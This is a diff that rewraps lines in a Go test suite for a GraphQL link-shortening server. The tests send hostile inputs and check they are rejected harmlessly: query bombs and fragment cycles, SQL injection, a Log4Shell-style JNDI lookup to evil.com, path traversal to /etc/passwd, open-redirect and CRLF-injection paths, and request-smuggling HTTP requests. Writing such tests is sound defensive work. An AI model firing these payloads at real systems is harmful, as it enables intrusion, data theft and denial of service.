@@ -51,8 +51,9 @@ func hostileDocuments() map[string]hostile {
 		return "{" + text.String() + " }"
 	}
 	return map[string]hostile{
-		"unknown id":          {body: `{"documentId": "` + marker + `"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
-		"unknown hash":        {body: `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "` + strings.Repeat("0", 64) + `"}}}`, code: "PERSISTED_QUERY_NOT_FOUND"},
+		"unknown id": {body: `{"documentId": "` + marker + `"}`, code: "PERSISTED_QUERY_NOT_FOUND"},
+		"unknown hash": {body: `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "` + strings.Repeat("0",
+			64) + `"}}}`, code: "PERSISTED_QUERY_NOT_FOUND"},
 		"another version":     {body: `{"extensions": {"persistedQuery": {"version": "` + marker + `"}}}`},
 		"a hash of words":     {body: `{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": "` + marker + `"}}}`},
 		"another one's hash":  {body: `{"query": "{ me { id } }", "documentId": "sha256:` + strings.Repeat("0", 64) + `"}`},
@@ -78,18 +79,19 @@ func hostileDocuments() map[string]hostile {
 		"fragment in a ring":  operation("{ ...f } fragment f on Query { ...g } fragment g on Query { ...f }"),
 		"fragment in itself":  operation("{ ...f } fragment f on Query { ...f }"),
 
-		"nested braces":     flood(strings.Repeat("{ me ", 50_000)),
-		"nested lists":      flood("{ node(id: " + strings.Repeat("[", 50_000)),
-		"nested objects":    flood("{ node(id: " + strings.Repeat("{a: ", 50_000)),
-		"repeated fields":   flood("{ " + strings.Repeat("me { id } ", 10_000) + "}"),
-		"directive flood":   flood("{ me " + strings.Repeat("@skip(if: false) ", 10_000) + "{ id } }"),
-		"some directives":   flood("{ me " + strings.Repeat("@a", 400) + " { id } }"),
-		"repeated skip":     operation("{ me " + strings.Repeat("@skip(if: false) ", 40) + "{ id } }"),
-		"many skips":        tooComplex("{ me " + strings.Repeat("@skip(if: false) ", 120) + "{ id } }"),
-		"some aliases":      tooComplex(aliases(150, "__typename")),
-		"some repetitions":  tooComplex("{ me {" + strings.Repeat(" id", 500) + " } }"),
-		"unlit bomb":        tooComplex("{ __typename " + strings.TrimPrefix(bomb(2, 30), "{ ...f0 }") + " }"),
-		"fragments in all":  operation("{ ...f } fragment f on Query { ...g ...h } fragment g on Query { ...f ...h } fragment h on Query { ...f ...g }"),
+		"nested braces":    flood(strings.Repeat("{ me ", 50_000)),
+		"nested lists":     flood("{ node(id: " + strings.Repeat("[", 50_000)),
+		"nested objects":   flood("{ node(id: " + strings.Repeat("{a: ", 50_000)),
+		"repeated fields":  flood("{ " + strings.Repeat("me { id } ", 10_000) + "}"),
+		"directive flood":  flood("{ me " + strings.Repeat("@skip(if: false) ", 10_000) + "{ id } }"),
+		"some directives":  flood("{ me " + strings.Repeat("@a", 400) + " { id } }"),
+		"repeated skip":    operation("{ me " + strings.Repeat("@skip(if: false) ", 40) + "{ id } }"),
+		"many skips":       tooComplex("{ me " + strings.Repeat("@skip(if: false) ", 120) + "{ id } }"),
+		"some aliases":     tooComplex(aliases(150, "__typename")),
+		"some repetitions": tooComplex("{ me {" + strings.Repeat(" id", 500) + " } }"),
+		"unlit bomb":       tooComplex("{ __typename " + strings.TrimPrefix(bomb(2, 30), "{ ...f0 }") + " }"),
+		"fragments in all": operation("{ ...f } fragment f on Query { ...g ...h } fragment g on Query { ...f ...h } " +
+			"fragment h on Query { ...f ...g }"),
 		"aliases":           flood(aliases(1000, "platformStats { totalLinks }")),
 		"variables":         flood("query (" + strings.Repeat("$x: Int ", 5000) + ") { __typename }"),
 		"operations":        flood(strings.Repeat("query { __typename } ", 1000)),
@@ -139,7 +141,8 @@ func wrongTypes(t *testing.T, who tenant) {
 		"Time in year 0":         {create, input("startsAt", "0000-01-01T00:00:00Z")},
 		"unknown enum":           {create, input("strategy", marker)},
 		"enum in lower case":     {create, input("strategy", "deterministic")},
-		"custom in lower case":   {create, map[string]any{"workspaceId": who.workspaceID, "url": "https://example.com/", "strategy": "custom", "customCode": "lower"}},
+		"custom in lower case": {create, map[string]any{"workspaceId": who.workspaceID, "url": "https://example.com/",
+			"strategy": "custom", "customCode": "lower"}},
 		"interval in lower case": {`query ($x: Interval!) { link(by: {id: "1"}) { stats { series(interval: $x) { clicks } } } }`, "month"},
 		"unknown input field":    {create, input("ownerId", marker)},
 		"input is a string":      {create, marker},
@@ -154,9 +157,10 @@ func wrongTypes(t *testing.T, who tenant) {
 		"one of two":             {`{ link(by: {id: "1", shortUrl: "2"}) { id } }`, nil},
 		"one of none":            {`{ link(by: {}) { id } }`, nil},
 		"one of null":            {`{ link(by: {id: null}) { id } }`, nil},
-		"one of two variables":   {`query ($x: LinkBy!) { link(by: $x) { id } }`, map[string]any{"id": marker, "shortUrl": marker}},
-		"one of no variable":     {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{}},
-		"one of a null":          {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{"slug": nil}},
+		"one of two variables": {`query ($x: LinkBy!) { link(by: $x) { id } }`,
+			map[string]any{"id": marker, "shortUrl": marker}},
+		"one of no variable": {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{}},
+		"one of a null":      {`query ($x: WorkspaceBy!) { workspace(by: $x) { id } }`, map[string]any{"slug": nil}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			began := time.Now()
@@ -179,8 +183,8 @@ func wrongTypes(t *testing.T, who tenant) {
 	}
 }
 
-// stringArguments are operations with $x for every argument that takes text, without those whose password is
-// hashed.
+// stringArguments are operations with $x for every argument that takes text, without those whose
+// password is hashed.
 var stringArguments = map[string]string{
 	"register email":    `mutation ($x: EmailAddress!) { register(input: {email: $x, password: "short", name: "n"}) { errors { code } } }`,
 	"register name":     `mutation ($x: String!) { register(input: {email: "n@example.com", password: "short", name: $x}) { errors { code } } }`,
@@ -265,7 +269,8 @@ var stringArguments = map[string]string{
 var hostileText = []string{
 	`"\u0000` + marker + `"`, `"` + marker + `\u0001\u001f\u007f\u0085\u2028"`, "\"" + marker + "\xff\xfe\xc0\xaf\"",
 	`"` + marker + `\ud800"`, `"' OR '1'='1' -- ` + marker + `"`, `"\"; DROP TABLE links; -- ` + marker + `"`,
-	`"%s%n%00 {{.}} ${jndi:ldap://evil.com/` + marker + `}"`, `"../../../../etc/passwd"`, `""`, `" "`, `"\ufeff\u202e` + marker + `"`,
+	`"%s%n%00 {{.}} ${jndi:ldap://evil.com/` + marker + `}"`, `"../../../../etc/passwd"`, `""`, `" "`,
+	`"\ufeff\u202e` + marker + `"`,
 	`"` + strings.Repeat(marker, 8000) + `"`, `"Local"`, `"? ?0 ?1"`,
 }
 
@@ -276,7 +281,8 @@ func hostileStrings(t *testing.T, who tenant) {
 		t.Run(name, func(t *testing.T) {
 			for _, text := range hostileText {
 				under := `"https://example.com/` + text[1:]
-				body := fmt.Sprintf(`{"query": %q, "variables": {"x": %s, "u": %s, "w": %q, "l": %q}}`, query, text, under, who.workspaceID, linkID)
+				body := fmt.Sprintf(`{"query": %q, "variables": {"x": %s, "u": %s, "w": %q, "l": %q}}`, query, text, under,
+					who.workspaceID, linkID)
 				began := time.Now()
 				a, err := who.post([]byte(body))
 				if err != nil {
@@ -352,16 +358,21 @@ func (s *server) raw(t *testing.T, request string) answer {
 func hostilePaths(t *testing.T, s *server) {
 	for _, path := range []string{
 		"/%00", "/%ff", "/%0d%0aSet-Cookie:x", "/..%2f", "/..%2f..%2fetc%2fpasswd", "/../../etc/passwd", "//evil.com",
-		"///evil.com/%2e%2e", "/%2f%2fevil.com", "/%5c%5cevil.com", `/\evil.com`, "/.//evil.com", "/a//evil.com", "/a/b/c", "/graphql/", "/victim",
-		"/victim/", "/VICTIM/abc", "/" + strings.Repeat("x", 10_000), "/" + strings.Repeat("%41/", 3000), "/' OR 1=1 --", "/<script>" + marker,
-		"/%3Cscript%3E" + marker, "/.well-known/security.txt", "/favicon.ico", "/livez/", "/playground/x", "/?" + marker, "/abc;x=" + marker,
+		"///evil.com/%2e%2e", "/%2f%2fevil.com", "/%5c%5cevil.com", `/\evil.com`, "/.//evil.com", "/a//evil.com", "/a/b/c",
+		"/graphql/", "/victim",
+		"/victim/", "/VICTIM/abc", "/" + strings.Repeat("x", 10_000), "/" + strings.Repeat("%41/", 3000), "/' OR 1=1 --",
+		"/<script>" + marker,
+		"/%3Cscript%3E" + marker, "/.well-known/security.txt", "/favicon.ico", "/livez/", "/playground/x", "/?" + marker,
+		"/abc;x=" + marker,
 		"http://evil.com/", "http://evil.com/abc", "*",
 	} {
 		for _, accept := range []string{"text/html", "*/*"} {
 			began := time.Now()
-			a := s.raw(t, "GET "+strings.ReplaceAll(path, " ", "%20")+" HTTP/1.1\r\nHost: "+s.address+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
+			a := s.raw(t, "GET "+strings.ReplaceAll(path, " ",
+				"%20")+" HTTP/1.1\r\nHost: "+s.address+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
 			shown := a.header.Get("Location")
-			if a.header.Del("Location"); shown != "" && (shown[0] != '/' || strings.HasPrefix(shown, "//") || strings.ContainsAny(shown, `\`)) {
+			if a.header.Del("Location"); shown != "" && (shown[0] != '/' || strings.HasPrefix(shown, "//") ||
+				strings.ContainsAny(shown, `\`)) {
 				t.Errorf("%.100s leads to %q", path, shown)
 			}
 			harmless(t, answer{a.status, a.header, strings.ReplaceAll(a.body, shown, "")}, began)
@@ -374,7 +385,8 @@ func hostilePaths(t *testing.T, s *server) {
 		}
 	}
 	for name, host := range map[string]string{
-		"another": "evil.com", "with markup": "<script>" + marker, "with an @": marker + "@evil.com", "empty": "", "long": strings.Repeat("x", 5000),
+		"another": "evil.com", "with markup": "<script>" + marker, "with an @": marker + "@evil.com", "empty": "",
+		"long":   strings.Repeat("x", 5000),
 		"a path": "evil.com/" + marker, "not ASCII": "\xff\xfe", "a port": "evil.com:99999",
 	} {
 		for _, path := range []string{"/", "/nosuchcode", "/graphql?query=%7B__typename%7D", "/playground", "//double"} {
@@ -390,15 +402,18 @@ func hostilePaths(t *testing.T, s *server) {
 		}
 	}
 	for name, request := range map[string]string{
-		"not HTTP":          marker + "\r\n\r\n",
-		"no host":           "GET / HTTP/1.1\r\n\r\n",
-		"two lengths":       "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
-		"length and chunks": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
-		"broken chunks":     "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
-		"large header":      "GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat(marker, 10_000) + "\r\n\r\n",
-		"CONNECT":           "CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\nConnection: close\r\n\r\n",
-		"TRACE":             "TRACE / HTTP/1.1\r\nHost: x\r\nX-Secret: " + marker + "\r\nConnection: close\r\n\r\n",
-		"a request id":      "GET /nosuchcode HTTP/1.1\r\nHost: x\r\nX-Request-Id: <" + marker + ">\r\nConnection: close\r\n\r\n",
+		"not HTTP":    marker + "\r\n\r\n",
+		"no host":     "GET / HTTP/1.1\r\n\r\n",
+		"two lengths": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n",
+		"length and chunks": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: " +
+			"4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
+		"broken chunks": "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: " +
+			"chunked\r\nConnection: close\r\n\r\nzz\r\n\r\n",
+		"large header": "GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat(marker, 10_000) + "\r\n\r\n",
+		"CONNECT":      "CONNECT evil.com:443 HTTP/1.1\r\nHost: evil.com:443\r\nConnection: close\r\n\r\n",
+		"TRACE":        "TRACE / HTTP/1.1\r\nHost: x\r\nX-Secret: " + marker + "\r\nConnection: close\r\n\r\n",
+		"a request id": "GET /nosuchcode HTTP/1.1\r\nHost: x\r\nX-Request-Id: <" + marker +
+			">\r\nConnection: close\r\n\r\n",
 	} {
 		t.Run(name, func(t *testing.T) {
 			began := time.Now()
